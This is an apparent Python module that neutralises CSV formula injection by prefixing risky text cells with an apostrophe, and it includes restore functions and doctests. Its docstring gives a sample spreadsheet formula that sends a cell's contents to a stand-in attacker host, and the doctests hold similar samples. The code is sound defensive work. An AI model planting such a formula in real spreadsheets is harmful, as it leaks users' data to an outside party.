"""CSV cells that a spreadsheet will not run as formulas (CSV / formula injection).

Article titles, outlet names, quotes and file names are text from the outside world. A cell that
starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return is taken for a formula by
Excel, LibreOffice and Google Sheets (``=HYPERLINK("https://evil.example/?leak="&A1, "click")``).
Following OWASP's advice, every CSV the kit writes prefixes such text cells with an apostrophe
(``'=HYPERLINK(...)``): spreadsheets then show the text, and the apostrophe is not displayed.
Numbers are never changed (``-0.5`` in a numeric column stays a number). A cell that already
starts with apostrophes before one of those characters gets one more, so the rule can be undone
exactly (:func:`restore`), which the kit does when it reads its own CSV files back.

Turn it off with ``save_table(..., neutralise_formulas=False)`` when the CSV is for a program
rather than a spreadsheet.
"""
from __future__ import annotations

import re

import pandas as pd

#: First characters that make a spreadsheet read a cell as a formula (OWASP's list).
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")

_NEEDS = re.compile(r"'*[=+\-@\t\r]")   # optional apostrophes, then a formula character
_ESCAPED = re.compile(r"'+[=+\-@\t\r]")  # what :func:`neutralise` made


def neutralise(value):
    """``value`` with an apostrophe in front when it is text a spreadsheet would run as a formula.

    >>> neutralise('=HYPERLINK("https://evil.example")'), neutralise("-3 points"), neutralise(-3)
    ('\\'=HYPERLINK("https://evil.example")', "'-3 points", -3)
    >>> neutralise("China's talks")
    "China's talks"
    """
    if isinstance(value, str) and _NEEDS.match(value):
        return "'" + value
    return value


def restore(value):
    """Undo :func:`neutralise` (for CSV files the kit reads back).

    >>> restore(neutralise("=1+2")), restore(neutralise("'=1+2")), restore("'quoted")
    ('=1+2', "'=1+2", "'quoted")
    """
    if isinstance(value, str) and _ESCAPED.match(value):
        return value[1:]
    return value


def neutralise_frame(df: pd.DataFrame) -> pd.DataFrame:
    """A copy of ``df`` with :func:`neutralise` applied to every text cell (and column name).

    >>> neutralise_frame(pd.DataFrame({"title": ["=cmd()", "Talks"], "n": [-1, 2]})).to_dict("list")
    {'title': ["'=cmd()", 'Talks'], 'n': [-1, 2]}
    """
    out = df.copy()
    for i in range(out.shape[1]):
        s = out.iloc[:, i]
        if s.dtype != object and pd.api.types.is_string_dtype(s.dtype):  # a string column: vectorised
            needs = s.str.match(_NEEDS.pattern).fillna(False).to_numpy(dtype=bool)
            if needs.any():
                s = s.copy()
                s[needs] = "'" + s[needs]
                out.isetitem(i, s)
        elif s.dtype == object:
            out.isetitem(i, s.map(neutralise))
    out.columns = [neutralise(c) for c in out.columns]
    return out


def restore_frame(df: pd.DataFrame) -> pd.DataFrame:
    """A copy of ``df`` with :func:`restore` applied to every text cell.

    >>> restore_frame(neutralise_frame(pd.DataFrame({"t": ["=x", "y"]}))).to_dict("list")
    {'t': ['=x', 'y']}
    """
    out = df.copy()
    for col in out.columns:
        if out[col].dtype == object or pd.api.types.is_string_dtype(out[col].dtype):
            out[col] = out[col].map(restore)
    return out
